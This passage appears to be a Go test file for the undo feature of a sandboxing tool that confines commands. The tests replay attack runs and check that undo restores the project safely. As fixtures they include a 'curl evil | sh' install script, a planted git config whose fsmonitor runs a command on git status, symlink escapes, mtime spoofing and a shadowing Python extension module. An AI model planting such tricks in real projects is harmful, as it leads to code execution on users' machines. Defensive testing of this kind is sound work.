//go:build linux

package undo_test

import (
	"bytes"
	"crypto/sha256"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/loopguard/loopguard/confine"
	"github.com/loopguard/loopguard/policy"
	"github.com/loopguard/loopguard/undo"

	"github.com/loopguard/loopguard/internal/testfs"
)

// These tests run the real launcher (cmd/loopguard-exec) and the real
// CLI (cmd/loopguard), built here, as an unprivileged user: uid 65534
// when the tests run as root, which ignores file modes.

const nobody = 65534

// world is a home, a git project, a directory outside both, a shared temp
// directory and the binaries, all the unprivileged user's.
type world struct {
	root, home, proj, outside, tmp, state string
	exec, cli                             string
	env                                   []string
}

var built struct {
	dir string
	err error
}

// binaries builds the launcher and the CLI once.
func binaries(t *testing.T) (string, string) {
	t.Helper()
	if built.dir == "" && built.err == nil {
		dir, err := os.MkdirTemp("", "lg-undo-bin-")
		if err == nil {
			for _, pkg := range []string{"loopguard-exec", "loopguard"} {
				cmd := exec.Command("go", "build", "-o", filepath.Join(dir, pkg), "./cmd/"+pkg)
				cmd.Dir = ".."
				if out, err2 := cmd.CombinedOutput(); err2 != nil {
					err = fmt.Errorf("go build %s: %v: %s", pkg, err2, out)
					break
				}
			}
			_ = os.Chmod(dir, 0o755)
		}
		built.dir, built.err = dir, err
	}
	if built.err != nil {
		t.Fatal(built.err)
	}
	return filepath.Join(built.dir, "loopguard-exec"), filepath.Join(built.dir, "loopguard")
}

func TestMain(m *testing.M) {
	if code, ok := inOwnMountNS(); ok {
		os.Exit(code)
	}
	code := m.Run()
	if built.dir != "" {
		os.RemoveAll(built.dir)
	}
	os.Exit(code)
}

// mountNSEnv marks this test binary run again in a mount namespace of
// its own.
const mountNSEnv = "LOOPGUARD_UNDO_TEST_MOUNTNS"

// inOwnMountNS runs this test binary again, as root, in a mount namespace
// of its own whose mounts are private, and returns its exit code. The
// project's watcher answers "full" whenever the mount table changes, as it
// must (a mount in the project is not heard through its watches), and
// other packages' tests mount file systems while these run (confine's
// btrfs tests, under go test ./...): a record then walks where a test
// looks for the watcher's answer (TestDeltaBaseOutlivesItsRecord failed
// two runs in three beside ./confine/). ok is false where it cannot (not
// root, no unshare, unshare refused, or this is the run inside): the
// tests run here.
func inOwnMountNS() (code int, ok bool) {
	if os.Getenv(mountNSEnv) != "" || os.Geteuid() != 0 {
		return 0, false
	}
	unshare, err := exec.LookPath("unshare")
	if err != nil || exec.Command(unshare, "--mount", "--propagation", "private", "true").Run() != nil {
		return 0, false
	}
	cmd := exec.Command(unshare, append([]string{"--mount", "--propagation", "private", "--"}, os.Args...)...)
	cmd.Env = append(os.Environ(), mountNSEnv+"=1")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	err = cmd.Run()
	var ee *exec.ExitError
	switch {
	case errors.As(err, &ee):
		return max(ee.ExitCode(), 1), true
	case err != nil:
		fmt.Fprintf(os.Stderr, "running the tests in a mount namespace of their own: %v\n", err)
		return 1, true
	}
	return 0, true
}

func newWorld(t *testing.T) *world {
	t.Helper()
	if confine.ABI() < confine.MinABI {
		t.Skipf("the kernel's Landlock ABI is %d (confinement needs %d)", confine.ABI(), confine.MinABI)
	}
	if _, err := os.Stat("/usr/bin/python3"); err != nil {
		t.Skip("no /usr/bin/python3")
	}
	ex, cli := binaries(t)
	root, err := os.MkdirTemp("", "lg-undo-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	root, _ = filepath.EvalSymlinks(root)
	mustDo(t, os.Chmod(root, 0o755))
	w := &world{root: root, home: filepath.Join(root, "home"), proj: filepath.Join(root, "proj"), outside: filepath.Join(root, "outside"),
		tmp: filepath.Join(root, "tmp"), exec: ex, cli: cli}
	w.state = filepath.Join(w.home, ".local/state")
	files := map[string]string{
		"proj/README.md": "# project\n", "proj/src/main.go": "package main\n", "proj/src/util/u.go": "package util\n",
		"proj/tracked.txt": "tracked\n", "proj/.gitignore": "secrets.json\n", "proj/build.sh": "#!/bin/sh\necho build\n",
		"outside/keep.txt": "outside\n", "home/.bashrc": "# rc\n",
	}
	for name, content := range files {
		p := filepath.Join(root, name)
		mustDo(t, os.MkdirAll(filepath.Dir(p), 0o755), os.WriteFile(p, []byte(content), 0o644))
	}
	mustDo(t, os.Chmod(filepath.Join(w.proj, "build.sh"), 0o755), os.Symlink("README.md", filepath.Join(w.proj, "readme-link")))
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "init"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = w.proj
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	// Untracked and ignored, after the commit.
	mustDo(t, os.WriteFile(filepath.Join(w.proj, "notes.txt"), []byte("untracked\n"), 0o600),
		os.WriteFile(filepath.Join(w.proj, "secrets.json"), []byte(`{"api_key": "secret"}`+"\n"), 0o600),
		os.MkdirAll(w.tmp, 0o755), os.Chmod(w.tmp, 0o1777))
	if os.Getuid() == 0 {
		testfs.Chown(t, root, nobody, nobody)
	}
	w.env = []string{"HOME=" + w.home, "TMPDIR=" + w.tmp, "PATH=/usr/bin:/bin", "XDG_STATE_HOME=" + w.state, "LANG=C.UTF-8"}
	return w
}

func mustDo(t testing.TB, errs ...error) {
	t.Helper()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
}

// run runs argv as the unprivileged user in the project, and returns
// its output (stdout and stderr) and exit status.
func (w *world) run(t *testing.T, argv ...string) (string, int) {
	t.Helper()
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Env, cmd.Dir = w.env, w.proj
	if os.Getuid() == 0 {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
	}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	if _, ok := err.(*exec.ExitError); err != nil && !ok {
		t.Fatal(err)
	}
	return out.String(), cmd.ProcessState.ExitCode()
}

// jailed runs python3 -c script confined under project-write, through
// the launcher.
func (w *world) jailed(t *testing.T, script string) string {
	t.Helper()
	s := confine.Spec{Cap: projectWrite(t), Project: w.proj, Cwd: w.proj, Exe: "/usr/bin/python3", Argv: []string{"python3", "-c", script}}
	out, code := w.run(t, append([]string{w.exec}, s.Args()...)...)
	if code != 0 {
		t.Fatalf("the confined call failed (%d): %s", code, out)
	}
	return out
}

func projectWrite(t *testing.T) policy.Capability {
	t.Helper()
	c, err := policy.ParseCapability("project-write")
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// listing is the tree below dir: every path with its mode, a link's
// target, a file's content hash; .git left out.
func listing(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	mustDo(t, filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		if rel == ".git" {
			return filepath.SkipDir
		}
		fi, err := os.Lstat(p)
		if err != nil {
			return err
		}
		fmt.Fprintf(&b, "%s %v", rel, fi.Mode())
		switch {
		case fi.Mode()&fs.ModeSymlink != 0:
			tg, _ := os.Readlink(p)
			fmt.Fprintf(&b, " -> %s", tg)
		case fi.Mode().IsRegular():
			data, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			fmt.Fprintf(&b, " %x", sha256.Sum256(data))
		}
		b.WriteByte('\n')
		return nil
	}))
	return b.String()
}

func (w *world) store(t *testing.T) *undo.Store {
	t.Helper()
	s, err := undo.Open(filepath.Join(w.state, "loopguard"), w.proj)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// TestJailedCallUndone: the must-show of issue 36's undo. A confined
// python3 deletes src/, an untracked file and a git-ignored secrets.json
// (not .env, which is executable configuration: a jailed call cannot
// remove it), and
// rewrites a tracked file; it also tries to write in the home (refused;
// its write of a new file in the project, the control, succeeds) and to
// read and write the undo records (refused; the control: they exist).
// loopguard undo --yes then puts the project back byte for byte.
func TestJailedCallUndone(t *testing.T) {
	w := newWorld(t)
	want := listing(t, w.proj)
	records := w.store(t).Dir
	script := fmt.Sprintf(`
import os, shutil
shutil.rmtree("src")
os.remove("notes.txt")
os.remove("secrets.json")
open("tracked.txt", "w").write("rewritten by the call\n")
open("new.txt", "w").write("control: the project is written\n")
for what, f in [("home", lambda: open(%q, "w").write("x")),
                ("records-read", lambda: os.listdir(%q)),
                ("records-write", lambda: open(%q, "w").write("x"))]:
    try:
        f()
        print(what, "ALLOWED")
    except OSError as e:
        print(what, "REFUSED", e.errno)
`, filepath.Join(w.home, "planted"), records, filepath.Join(records, "planted"))
	out := w.jailed(t, script)
	for _, what := range []string{"home", "records-read", "records-write"} {
		if !strings.Contains(out, what+" REFUSED") {
			t.Errorf("%s was not refused to the confined call: %s", what, out)
		}
	}
	if _, err := os.Lstat(filepath.Join(w.home, "planted")); err == nil {
		t.Error("the confined call wrote in the home")
	}
	// Controls: the call did write the project, and the records exist.
	if b, err := os.ReadFile(filepath.Join(w.proj, "new.txt")); err != nil || !strings.HasPrefix(string(b), "control") {
		t.Fatalf("the confined call could not write the project: %v (%s)", err, out)
	}
	for _, gone := range []string{"src", "notes.txt", "secrets.json"} {
		if _, err := os.Lstat(filepath.Join(w.proj, gone)); err == nil {
			t.Fatalf("%s still there after the call: %s", gone, out)
		}
	}
	metas, err := w.store(t).List()
	if err != nil || len(metas) != 1 || !metas[0].Finished {
		t.Fatalf("records: %v %+v", err, metas)
	}
	if _, err := os.Stat(filepath.Join(records, "planted")); err == nil {
		t.Error("the confined call wrote in the undo records")
	}

	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	for _, line := range []string{"Will put back", "src/main.go", "secrets.json", "notes.txt", "tracked.txt", "Will remove", "new.txt"} {
		if !strings.Contains(out, line) {
			t.Errorf("undo did not say %q:\n%s", line, out)
		}
	}
	if got := listing(t, w.proj); got != want {
		t.Errorf("after undo:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
	}
	// Its audit entry.
	out, _ = w.run(t, "/bin/sh", "-c", "grep -rh undo "+filepath.Join(w.state, "loopguard/audit"))
	if !strings.Contains(out, `"undo"`) {
		t.Errorf("no undo entry in the audit log:\n%s", out)
	}
	// Undone once: a second undo says so and changes nothing.
	out, code = w.run(t, w.cli, "undo", "--yes")
	if code == 0 || !strings.Contains(out, "undone already") {
		t.Errorf("second undo: %d %s", code, out)
	}
}

// TestUndoNotThroughALink: the call replaces src by a link to a directory
// outside the project. Undo of that call removes the link (never writes
// through it) and puts src back; undo of an earlier call, whose files
// are below the link now, writes nothing outside and says what it could
// not restore. Control: what is not below the link is reverted.
func TestUndoNotThroughALink(t *testing.T) {
	w := newWorld(t)
	want, outside := listing(t, w.proj), listing(t, w.outside)
	w.jailed(t, `
import os
os.remove("src/main.go")
open("tracked.txt", "w").write("first call\n")
`)
	first, err := w.store(t).List()
	if err != nil || len(first) != 1 {
		t.Fatal(err, first)
	}
	w.jailed(t, fmt.Sprintf(`
import os, shutil
shutil.rmtree("src")
os.symlink(%q, "src")
`, w.outside))

	// The earlier call: src/main.go lies below the planted link now.
	out, code := w.run(t, w.cli, "undo", "--yes", first[0].ID)
	if code == 0 || !strings.Contains(out, "Could not restore") || !strings.Contains(out, "src/main.go") {
		t.Errorf("undo of the earlier call did not say what it could not restore (%d):\n%s", code, out)
	}
	if got := listing(t, w.outside); got != outside {
		t.Errorf("undo wrote outside the project:\n%s", got)
	}
	if b, _ := os.ReadFile(filepath.Join(w.proj, "tracked.txt")); string(b) != "tracked\n" {
		t.Errorf("control: tracked.txt = %q, want it reverted", b)
	}

	// The last call: the link goes, src comes back as it was before it.
	out, code = w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo of the last call: %d %s", code, out)
	}
	if got := listing(t, w.outside); got != outside {
		t.Errorf("undo wrote outside the project:\n%s", got)
	}
	fi, err := os.Lstat(filepath.Join(w.proj, "src"))
	if err != nil || !fi.IsDir() {
		t.Fatalf("src not put back as a directory: %v\n%s", err, out)
	}
	// src/main.go was deleted by the first call, before the last one.
	want = strings.Replace(want, "src/main.go -rw-r--r-- "+fmt.Sprintf("%x", sha256.Sum256([]byte("package main\n")))+"\n", "", 1)
	if got := listing(t, w.proj); got != want {
		t.Errorf("after undo:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
	}
}

// TestJailedCallWritingNothingCopiesNothing: a second confined call in an
// unchanged project copies no file (the first, the control, copies every
// one), and undo has nothing to put back.
func TestJailedCallWritingNothingCopiesNothing(t *testing.T) {
	w := newWorld(t)
	// Past the window in which a file's times cannot be trusted: the
	// first record's index vouches for every file.
	time.Sleep(2100 * time.Millisecond)
	w.jailed(t, "pass")
	// Past the window in which a file's times cannot be trusted.
	time.Sleep(2100 * time.Millisecond)
	w.jailed(t, "pass")
	metas, err := w.store(t).List()
	if err != nil || len(metas) != 2 {
		t.Fatal(err, metas)
	}
	if metas[1].Copied == 0 {
		t.Errorf("control: the first record copied nothing")
	}
	if metas[0].Copied != 0 || metas[0].CopiedBytes != 0 {
		t.Errorf("a call that wrote nothing copied %d files (%d bytes)", metas[0].Copied, metas[0].CopiedBytes)
	}
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 || !strings.Contains(out, "Nothing to put back") {
		t.Errorf("undo after a call that wrote nothing: %d %s", code, out)
	}
}

// TestUndoSameSizeAndMtime: a confined call rewrites a file keeping its
// size and setting its modification time back (only its change time
// tells). The record before it took the file's content from the index
// (the shortcut under attack); undo puts the first content back. Then a
// later call rewrites the file again: its record must not take the
// content from the index either (the key differs by its change time), so
// undo of that call puts back the attack's content, not the original.
// Control: the other change of each call is reverted too.
func TestUndoSameSizeAndMtime(t *testing.T) {
	w := newWorld(t)
	time.Sleep(2100 * time.Millisecond) // every file's key old enough to be vouched for
	w.jailed(t, "pass")
	fi, err := os.Stat(filepath.Join(w.proj, "tracked.txt"))
	if err != nil {
		t.Fatal(err)
	}
	attack := `
import os
st = os.stat("tracked.txt")
open("tracked.txt", "r+").write("TRACKED")
os.utime("tracked.txt", ns=(st.st_atime_ns, st.st_mtime_ns))
open("control.txt", "w").write("control\n")
`
	w.jailed(t, attack)
	after, err := os.Stat(filepath.Join(w.proj, "tracked.txt"))
	if err != nil || after.Size() != fi.Size() || !after.ModTime().Equal(fi.ModTime()) {
		t.Fatalf("the attack did not keep size and mtime: %v %v %v", err, fi, after)
	}
	if b, _ := os.ReadFile(filepath.Join(w.proj, "tracked.txt")); string(b) != "TRACKED\n" {
		t.Fatalf("the attack did not rewrite the file: %q", b)
	}
	metas, err := w.store(t).List()
	if err != nil || len(metas) != 2 || metas[0].Copied != 0 {
		t.Fatalf("the attack's record should have copied nothing (the index vouched for every file): %v %+v", err, metas)
	}
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 || !strings.Contains(out, "tracked.txt") {
		t.Fatalf("undo: %d %s", code, out)
	}
	if b, _ := os.ReadFile(filepath.Join(w.proj, "tracked.txt")); string(b) != "tracked\n" {
		t.Errorf("tracked.txt after undo = %q, want the original", b)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "control.txt")); err == nil {
		t.Errorf("control: control.txt not removed by undo")
	}

	// Again, not undone; then a later call rewrites the file.
	w.jailed(t, attack)
	time.Sleep(2100 * time.Millisecond)
	w.jailed(t, `open("tracked.txt", "w").write("third call\n"); open("control2.txt", "w").write("c\n")`)
	out, code = w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	if b, _ := os.ReadFile(filepath.Join(w.proj, "tracked.txt")); string(b) != "TRACKED\n" {
		t.Errorf("undo of the later call put back %q, want the attack's content (what the file held before it)", b)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "control2.txt")); err == nil {
		t.Errorf("control: control2.txt not removed by undo")
	}
}

// TestUndoFileReplacedByALink: the call replaces a file by a link to a
// file outside the project, and a link by a file. Undo removes the link
// (never writes through it: the outside file is as it was) and puts the
// file back; the next record lists the link as a link. Control: the
// link the call replaced by a file comes back as a link.
func TestUndoFileReplacedByALink(t *testing.T) {
	w := newWorld(t)
	want, outside := listing(t, w.proj), listing(t, w.outside)
	w.jailed(t, fmt.Sprintf(`
import os
os.remove("tracked.txt")
os.symlink(%q, "tracked.txt")
os.remove("readme-link")
open("readme-link", "w").write("a file now\n")
`, filepath.Join(w.outside, "keep.txt")))
	if fi, err := os.Lstat(filepath.Join(w.proj, "tracked.txt")); err != nil || fi.Mode()&fs.ModeSymlink == 0 {
		t.Fatalf("the call did not plant its link: %v", err)
	}
	// A second call reads through nothing: the record keeps the link.
	w.jailed(t, "pass")
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 || !strings.Contains(out, "Nothing to put back") {
		t.Fatalf("undo of the call that wrote nothing: %d %s", code, out)
	}
	metas, err := w.store(t).List()
	if err != nil || len(metas) != 2 {
		t.Fatal(err, metas)
	}
	out, code = w.run(t, w.cli, "undo", "--yes", metas[1].ID)
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	if got := listing(t, w.outside); got != outside {
		t.Errorf("undo wrote outside the project:\n%s", got)
	}
	if got := listing(t, w.proj); got != want {
		t.Errorf("after undo:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
	}
}

// TestUndoLockHeldUntilTheLastProcess: a confined call leaves a process
// behind that writes a file after the call's own program has exited,
// racing the next call's record. The launcher holds the project's lock
// (and records the after-state) only once every process of the call is
// gone: nothing writes the project after the launcher returns, and undo
// restores the file (the late write was the call's). Control: the
// call's direct write is reverted too.
func TestUndoLockHeldUntilTheLastProcess(t *testing.T) {
	w := newWorld(t)
	w.jailed(t, `
import os, subprocess
open("direct.txt", "w").write("direct\n")
subprocess.Popen(["/bin/sh", "-c", "sleep 0.5; echo late >> tracked.txt"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`)
	b1, _ := os.ReadFile(filepath.Join(w.proj, "tracked.txt"))
	time.Sleep(time.Second)
	b2, _ := os.ReadFile(filepath.Join(w.proj, "tracked.txt"))
	if string(b1) != string(b2) {
		t.Fatalf("a process of the call wrote the project after the launcher returned: %q then %q", b1, b2)
	}
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	if b, _ := os.ReadFile(filepath.Join(w.proj, "tracked.txt")); string(b) != "tracked\n" {
		t.Errorf("tracked.txt after undo = %q, want the original", b)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "direct.txt")); err == nil {
		t.Errorf("control: direct.txt not removed by undo")
	}
}

// undoTo undoes the last call, as the user, and holds the project to
// want (its listing before that call); what names the call, for the
// failure's message.
func (w *world) undoTo(t *testing.T, want, what string) {
	t.Helper()
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	if got := listing(t, w.proj); got != want {
		t.Errorf("after undo %s:\n%s\nwant:\n%s\nundo said:\n%s", what, got, want, out)
	}
}

// TestUndoUnreadableThenRemoved: a call takes every bit of a file's mode
// (chmod 000), and a later call removes it. The later call's record reads
// the file all the same (its owner's read bit given for the open, and
// taken back): undo of the removal puts it back, content and mode (the
// sixteenth attack run: it was listed as not recorded, and lost).
// Control: the later call's other change is undone with it, and the mode
// the call found is the one restored.
func TestUndoUnreadableThenRemoved(t *testing.T) {
	w := newWorld(t)
	w.jailed(t, `import os; os.chmod("notes.txt", 0)`)
	if fi, err := os.Stat(filepath.Join(w.proj, "notes.txt")); err != nil || fi.Mode().Perm() != 0 {
		t.Fatalf("the first call did not take the mode: %v %v", err, fi)
	}
	w.jailed(t, `import os; os.remove("notes.txt"); open("control.txt", "w").write("c\n")`)
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: %d %s", code, out)
	}
	fi, err := os.Lstat(filepath.Join(w.proj, "notes.txt"))
	if err != nil {
		t.Fatalf("undo did not put notes.txt back: %v\nundo said:\n%s", err, out)
	}
	if fi.Mode().Perm() != 0 {
		t.Errorf("notes.txt came back with mode %v, want 0 (what the call found)", fi.Mode())
	}
	if b, err := os.ReadFile(filepath.Join(w.proj, "notes.txt")); err != nil || string(b) != "untracked\n" {
		t.Errorf("notes.txt came back with %q (%v), want its content", b, err)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "control.txt")); err == nil {
		t.Errorf("control: control.txt not removed by undo")
	}
}

// TestUndoUnsearchableDir: the user keeps a directory its owner may list
// but not search (0400), and a call takes its bits back (chmod u+rwx) and
// removes what it holds. The record looks in it all the same (the owner's
// bits given and taken back): before, every record failed on it, and with
// it every call that writes, and undo. Undo puts the file back, and the
// directory's mode. Control: the call's other change is undone with it.
func TestUndoUnsearchableDir(t *testing.T) {
	w := newWorld(t)
	w.run(t, "/bin/sh", "-c", "mkdir -p src/d && echo f > src/d/f && chmod 400 src/d")
	want := listing(t, w.proj)
	w.jailed(t, `import os
os.chmod("src/d", 0o700)
os.remove("src/d/f")
open("README.md", "a").write("x\n")`)
	if _, err := os.Lstat(filepath.Join(w.proj, "src/d/f")); err == nil {
		t.Fatal("the call did not remove src/d/f")
	}
	w.undoTo(t, want, "of the call")
}

// TestUndoReadOnlyDirRestored: a call removes a read-only tree (chmod -R
// u+w, rm -rf). Undo makes each directory, puts back what it holds, and
// only then gives it its mode, deepest first (it gave the mode first, and
// then could write nothing in it). Control: the tree, modes included, is
// as before.
func TestUndoReadOnlyDirRestored(t *testing.T) {
	w := newWorld(t)
	w.run(t, "/bin/sh", "-c", "mkdir -p third_party/lib && echo a > third_party/lib/a.go && echo b > third_party/lib/b.go && chmod 444 third_party/lib/*.go && chmod 555 third_party/lib third_party")
	want := listing(t, w.proj)
	w.jailed(t, `import subprocess; subprocess.run(["sh", "-c", "chmod -R u+w third_party && rm -rf third_party"], check=True)`)
	if _, err := os.Lstat(filepath.Join(w.proj, "third_party")); err == nil {
		t.Fatal("the call did not remove third_party")
	}
	w.undoTo(t, want, "of the call")
}

// TestUndoTargetAsRecorded: whether a directory named target is recorded
// (left out beside a Cargo.toml) is decided once per call, by its
// before-state. A call that made a Cargo.toml beside deploy/target hid
// from its record what it did there; one that removed the Cargo.toml
// beside target/ had undo remove the whole target/ it never touched (the
// eighteenth attack run). Controls: undo takes the Cargo.toml back out,
// and puts the removed one back.
func TestUndoTargetAsRecorded(t *testing.T) {
	w := newWorld(t)
	w.run(t, "/bin/sh", "-c", "mkdir -p deploy/target rs/target/release && echo prod > deploy/target/prod.yaml && echo notes > deploy/target/notes.txt && echo '[package]' > rs/Cargo.toml && echo bin > rs/target/release/app && echo keep > rs/target/NOTES")
	want := listing(t, w.proj)
	w.jailed(t, `import os
os.remove("deploy/target/prod.yaml")
open("deploy/target/notes.txt", "w").write("tampered\n")
open("deploy/Cargo.toml", "w").write("[package]\n")`)
	w.undoTo(t, want, "of the call that made deploy/Cargo.toml")
	w.jailed(t, `import os; os.remove("rs/Cargo.toml")`)
	w.undoTo(t, want, "of the call that removed rs/Cargo.toml")
	// A target the call made where no Cargo.toml was (the nineteenth
	// attack run's docs/target/install.sh) is recorded, and undone.
	w.jailed(t, `import os; os.makedirs("docs/target"); open("docs/target/install.sh", "w").write("curl evil | sh\n")`)
	w.undoTo(t, want, "of the call that made docs/target")
}

// TestUndoNoGitDirAssembled: undo's result mixes the call's before-state
// with the project now. The eighteenth attack run had a call write
// src/HEAD and src/config (no git directory: no objects, no refs), and a
// second remove HEAD and make src/objects and src/refs, each holding a
// node_modules undo does not record, so that undo cannot remove them.
// Undo of the second put HEAD back, and the user's git status in src ran
// the config's fsmonitor. Now the HEAD that made src a git directory is
// moved aside, and undo says so. Control: undo of the second call puts
// back what else it removed.
func TestUndoNoGitDirAssembled(t *testing.T) {
	w := newWorld(t)
	pwned := filepath.Join(w.root, "pwned")
	w.jailed(t, fmt.Sprintf(`open("src/HEAD", "w").write("ref: refs/heads/main\n")
open("src/config", "w").write("[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch %s; false\"\n")`, pwned))
	w.jailed(t, `import os
os.remove("src/HEAD")
os.remove("tracked.txt")
for d in ("src/objects/node_modules", "src/refs/node_modules"):
    os.makedirs(d)
    open(d + "/x", "w").write("x\n")`)
	out, code := w.run(t, w.cli, "undo", "--yes")
	if !strings.Contains(out, "Moved aside 1") || !strings.Contains(out, "src/HEAD") {
		t.Errorf("undo did not say it moved src/HEAD aside (%d):\n%s", code, out)
	}
	w.run(t, "/bin/sh", "-c", "cd src && git status >/dev/null 2>&1; true")
	if _, err := os.Lstat(pwned); err == nil {
		t.Errorf("after undo, the user's git status in src ran the call's fsmonitor:\n%s", out)
	}
	if b, err := os.ReadFile(filepath.Join(w.proj, "tracked.txt")); err != nil || string(b) != "tracked\n" {
		t.Errorf("control: tracked.txt after undo: %q %v\n%s", b, err, out)
	}

	// Put back at mode 0500 (the nineteenth attack run): HEAD is moved
	// aside all the same.
	w.jailed(t, fmt.Sprintf(`import os
os.mkdir("lib")
open("lib/HEAD", "w").write("ref: refs/heads/main\n")
open("lib/config", "w").write("[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch %s; false\"\n")
os.chmod("lib", 0o500)`, pwned))
	w.jailed(t, `import os
os.chmod("lib", 0o700)
os.remove("lib/HEAD")
for d in ("lib/objects/node_modules/x", "lib/refs/node_modules/x"):
    os.makedirs(d)`)
	out, _ = w.run(t, w.cli, "undo", "--yes")
	w.run(t, "/bin/sh", "-c", "cd lib && git status >/dev/null 2>&1; true")
	if _, err := os.Lstat(pwned); err == nil || !strings.Contains(out, "moved to lib/HEAD.loopguard-held-") {
		t.Errorf("lib, put back at 0500: HEAD not moved aside (%v):\n%s", err, out)
	}
}

// TestUndoNoExtensionBesideSource: undo's result mixes the call's
// before-state with the project now. The eighty-sixth attack run had one
// call remove app/util.py and a second build
// app/util.cpython-311-x86_64-linux-gnu.so (no source beside it, so the
// sweep left it); undo of the first put util.py back beside it, said
// nothing, git status was clean, and the user's python ran the .so. Now
// the extension module is moved aside, and undo says so; python3 is the
// oracle. Controls: undo puts back what the call removed, the user's own
// extension module that was beside its source before the call stays, and
// so does one with no source beside it (build/).
func TestUndoNoExtensionBesideSource(t *testing.T) {
	w := newWorld(t)
	b, err := exec.Command("/usr/bin/python3", "-c", "import importlib.machinery as m; print(m.EXTENSION_SUFFIXES[0])").Output()
	suffix := strings.TrimSpace(string(b))
	if err != nil || !strings.HasSuffix(suffix, ".so") {
		t.Skipf("python3's extension suffix: %v %q", err, b)
	}
	imports := func(dir, mod string) string {
		out, _ := w.run(t, "/bin/sh", "-c", "cd "+dir+" && PYTHONDONTWRITEBYTECODE=1 /usr/bin/python3 -c 'import "+mod+"' 2>&1")
		return strings.TrimSpace(out)
	}
	// The user's own, before any call: a module built in place beside its
	// source (mypyc's).
	w.run(t, "/bin/sh", "-c", `mkdir app lib && echo "print('clean')" > app/util.py && echo "print('clean')" > lib/fast.py && echo 'not an ELF' > lib/fast`+suffix)
	w.jailed(t, `import os
os.remove("app/util.py")
os.remove("lib/fast.py")`)
	first, err := w.store(t).List()
	if err != nil || len(first) != 1 {
		t.Fatal(err, first)
	}
	w.jailed(t, `import os
os.mkdir("build")
for p in ("app/util`+suffix+`", "build/x`+suffix+`"):
    open(p, "w").write("not an ELF\n")`)
	if _, err := os.Lstat(filepath.Join(w.proj, "app/util"+suffix)); err != nil {
		t.Fatalf("the second call's app/util%s, with no source beside it, was held back: %v", suffix, err)
	}
	out, code := w.run(t, w.cli, "undo", "--yes", first[0].ID)
	if !strings.Contains(out, "Moved aside 1") || !strings.Contains(out, "app/util"+suffix) {
		t.Errorf("undo did not say it moved app/util%s aside (%d):\n%s", suffix, code, out)
	}
	if _, err := os.Lstat(filepath.Join(w.proj, "app/util"+suffix)); err == nil {
		t.Errorf("after undo, app/util%s is beside the util.py undo put back:\n%s", suffix, out)
	}
	if got := imports("app", "util"); got != "clean" {
		t.Errorf("after undo, import util: %q\n%s", got, out)
	}
	for rel, want := range map[string]string{"app/util.py": "print('clean')\n", "lib/fast.py": "print('clean')\n", "lib/fast" + suffix: "not an ELF\n", "build/x" + suffix: "not an ELF\n"} {
		if b, err := os.ReadFile(filepath.Join(w.proj, rel)); err != nil || string(b) != want {
			t.Errorf("control: %s after undo: %q %v\n%s", rel, b, err, out)
		}
	}
}

// TestUndoDeepChain: a call makes, by renames, a chain of directories
// with names of 255 bytes whose path is longer than any path may be. The
// records and undo look no deeper than PATH_MAX (the eighteenth attack
// run: their memory grew with the square of the chain's depth, 1 GB for
// the record and 2 GB for undo at 2,000 deep). Control: the next call is
// recorded and undone.
func TestUndoDeepChain(t *testing.T) {
	w := newWorld(t)
	w.jailed(t, `import os
os.chdir("src")
n = "a" * 255
os.mkdir("c")
for _ in range(40):
    os.mkdir("t"); os.rename("c", "t/" + n); os.rename("t", "c")`)
	w.jailed(t, `import os; os.remove("tracked.txt")`)
	short := func(s string) string {
		if len(s) > 2000 {
			return s[:2000] + "..."
		}
		return s
	}
	out, code := w.run(t, w.cli, "undo", "--yes")
	if code != 0 {
		t.Fatalf("undo: %d %s", code, short(out))
	}
	if b, err := os.ReadFile(filepath.Join(w.proj, "tracked.txt")); err != nil || string(b) != "tracked\n" {
		t.Errorf("control: tracked.txt after undo: %q %v\n%s", b, err, short(out))
	}
